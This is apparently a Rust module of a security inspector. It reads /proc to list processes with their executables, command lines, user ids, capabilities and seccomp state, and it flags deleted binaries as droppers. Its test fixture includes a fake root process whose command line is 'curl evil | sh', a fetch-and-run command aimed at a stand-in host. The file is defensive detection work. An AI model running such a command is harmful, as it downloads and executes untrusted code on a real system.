//! The process inventory, read from `/proc` the way an inspector does when `ps` is missing:
//! every numeric `/proc/<pid>` with its `exe` link, command line, user and parent. What may
//! not be read (another user's `exe` under `hidepid` or without ptrace rights, a process
//! that exited meanwhile) is reported as unknown, never an error.

use std::path::{Path, PathBuf};

use super::caps::CapSet;

/// What `/proc/<pid>/status` says about a process (each field absent if unreadable).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Status {
    pub name: Option<String>,
    pub parent: Option<u32>,
    /// The effective user id.
    pub uid: Option<u32>,
    pub effective: Option<CapSet>,
    pub bounding: Option<CapSet>,
    pub ambient: Option<CapSet>,
    pub no_new_privs: Option<bool>,
    /// 0 disabled, 1 strict, 2 filter.
    pub seccomp: Option<u8>,
    /// A kernel thread (`Kthread: 1` on recent kernels).
    pub kernel_thread: Option<bool>,
}

impl Status {
    pub fn parse(text: &str) -> Self {
        let mut status = Self::default();
        for line in text.lines() {
            let Some((key, value)) = line.split_once(':') else {
                continue;
            };
            let value = value.trim();
            match key {
                "Name" => status.name = Some(value.to_owned()),
                "PPid" => status.parent = value.parse().ok(),
                // Real, effective, saved, file-system ids.
                "Uid" => status.uid = value.split_whitespace().nth(1).and_then(|v| v.parse().ok()),
                "CapEff" => status.effective = CapSet::parse(value),
                "CapBnd" => status.bounding = CapSet::parse(value),
                "CapAmb" => status.ambient = CapSet::parse(value),
                "NoNewPrivs" => status.no_new_privs = value.parse::<u8>().ok().map(|v| v == 1),
                "Seccomp" => status.seccomp = value.parse().ok(),
                "Kthread" => status.kernel_thread = value.parse::<u8>().ok().map(|v| v == 1),
                _ => {}
            }
        }
        status
    }
}

/// What the `exe` link of a process says.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Executable {
    Path(PathBuf),
    /// The binary was replaced or removed after it started: a classic sign of a dropper.
    Deleted(PathBuf),
    /// Kernel threads have no executable.
    None,
    /// Not readable by this process (permissions, `hidepid`, or it exited meanwhile).
    Unknown,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Process {
    pub pid: u32,
    pub executable: Executable,
    /// The arguments, NUL-separated in `/proc`, joined by spaces here; `None` if unreadable.
    pub command_line: Option<String>,
    pub status: Status,
}

impl Process {
    pub fn is_kernel_thread(&self) -> bool {
        self.status.kernel_thread == Some(true)
            || (self.executable == Executable::None && self.status.parent == Some(2))
            || self.pid == 2 && self.status.name.as_deref() == Some("kthreadd")
    }
}

/// Every process visible under `proc` (normally `/proc`), by pid.
pub fn processes(proc: &Path) -> Vec<Process> {
    let Ok(entries) = std::fs::read_dir(proc) else {
        return Vec::new();
    };
    let mut processes: Vec<Process> = entries
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok())
        .map(|pid| read_process(proc, pid))
        .collect();
    processes.sort_by_key(|process| process.pid);
    processes
}

fn read_process(proc: &Path, pid: u32) -> Process {
    let dir = proc.join(pid.to_string());
    let status = std::fs::read_to_string(dir.join("status"))
        .map(|text| Status::parse(&text))
        .unwrap_or_default();
    let command_line = std::fs::read(dir.join("cmdline")).ok().map(|bytes| {
        bytes
            .split(|b| *b == 0)
            .filter(|arg| !arg.is_empty())
            .map(|arg| String::from_utf8_lossy(arg).into_owned())
            .collect::<Vec<_>>()
            .join(" ")
    });
    let executable = match std::fs::read_link(dir.join("exe")) {
        Ok(path) => {
            let text = path.to_string_lossy();
            match text.strip_suffix(" (deleted)") {
                Some(original) => Executable::Deleted(PathBuf::from(original)),
                None => Executable::Path(path),
            }
        }
        // A kernel thread's link exists but leads nowhere (ENOENT), as does a process that
        // exited; anything else (EACCES) is a process we may not look into.
        Err(error)
            if error.kind() == std::io::ErrorKind::NotFound
                && command_line.as_deref() == Some("") =>
        {
            Executable::None
        }
        Err(_) => Executable::Unknown,
    };
    Process {
        pid,
        executable,
        command_line,
        status,
    }
}

/// Whether the processes seen are the host's: only in the host PID namespace does a
/// process see the kernel's threads (kthreadd is pid 2 there).
pub fn sees_host_pid_namespace(processes: &[Process]) -> bool {
    processes.iter().any(Process::is_kernel_thread)
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::symlink;

    use super::*;

    const ROOT_STATUS: &str = "Name:\tmsa\nUmask:\t0022\nState:\tS (sleeping)\nPPid:\t0\n\
        Uid:\t10001\t10001\t10001\t10001\nCapInh:\t0000000000000000\nCapPrm:\t0000000000000000\n\
        CapEff:\t0000000000000000\nCapBnd:\t00000000a80425fb\nCapAmb:\t0000000000000000\n\
        NoNewPrivs:\t1\nSeccomp:\t2\nSeccomp_filters:\t1\n";

    fn fixture() -> tempfile::TempDir {
        let proc = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let add = |pid: &str, status: &str, cmdline: &[u8], exe: Option<&str>| {
            let dir = proc.path().join(pid);
            std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
            std::fs::write(dir.join("status"), status).unwrap_or_else(|e| panic!("{e}"));
            std::fs::write(dir.join("cmdline"), cmdline).unwrap_or_else(|e| panic!("{e}"));
            // A kernel thread's link cannot be read (ENOENT); here it is simply absent.
            if let Some(target) = exe {
                symlink(target, dir.join("exe")).unwrap_or_else(|e| panic!("{e}"));
            }
        };
        add("1", ROOT_STATUS, b"/msa\0serve\0users\0", Some("/msa"));
        add(
            "7",
            "Name:\tsh\nPPid:\t1\nUid:\t0\t0\t0\t0\nCapEff:\t000001ffffffffff\n",
            b"sh\0-c\0curl evil | sh\0",
            Some("/tmp/x (deleted)"),
        );
        add("2", "Name:\tkthreadd\nPPid:\t0\nKthread:\t1\n", b"", None);
        // Not a process: other entries of /proc are skipped.
        std::fs::create_dir_all(proc.path().join("sys")).unwrap_or_else(|e| panic!("{e}"));
        proc
    }

    #[test]
    fn the_inventory_reads_every_numeric_entry() {
        let proc = fixture();
        let seen = processes(proc.path());
        assert_eq!(seen.iter().map(|p| p.pid).collect::<Vec<_>>(), [1, 2, 7]);
        let init = &seen[0];
        assert_eq!(init.executable, Executable::Path("/msa".into()));
        assert_eq!(init.command_line.as_deref(), Some("/msa serve users"));
        assert_eq!(init.status.uid, Some(10001));
        assert_eq!(init.status.no_new_privs, Some(true));
        assert_eq!(init.status.seccomp, Some(2));
        assert!(init.status.effective.is_some_and(CapSet::is_empty));
        let dropper = &seen[2];
        assert_eq!(dropper.executable, Executable::Deleted("/tmp/x".into()));
        assert_eq!(dropper.status.uid, Some(0));
        assert_eq!(dropper.status.parent, Some(1));
        assert!(seen[1].is_kernel_thread());
        assert_eq!(seen[1].executable, Executable::None);
        assert!(sees_host_pid_namespace(&seen));
        assert!(!sees_host_pid_namespace(&seen[..1]));
    }

    #[test]
    fn unreadable_parts_are_unknown_not_errors() {
        let proc = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        std::fs::create_dir_all(proc.path().join("42")).unwrap_or_else(|e| panic!("{e}"));
        let seen = processes(proc.path());
        assert_eq!(seen.len(), 1);
        assert_eq!(seen[0].executable, Executable::Unknown);
        assert_eq!(seen[0].command_line, None);
        assert_eq!(seen[0].status, Status::default());
        assert!(processes(Path::new("/nonexistent/proc")).is_empty());
    }

    #[test]
    fn this_process_finds_itself_in_the_real_proc() {
        let me = std::process::id();
        let seen = processes(Path::new("/proc"));
        let found = seen
            .iter()
            .find(|p| p.pid == me)
            .map(|p| p.executable.clone());
        assert!(matches!(found, Some(Executable::Path(_))), "{found:?}");
    }
}
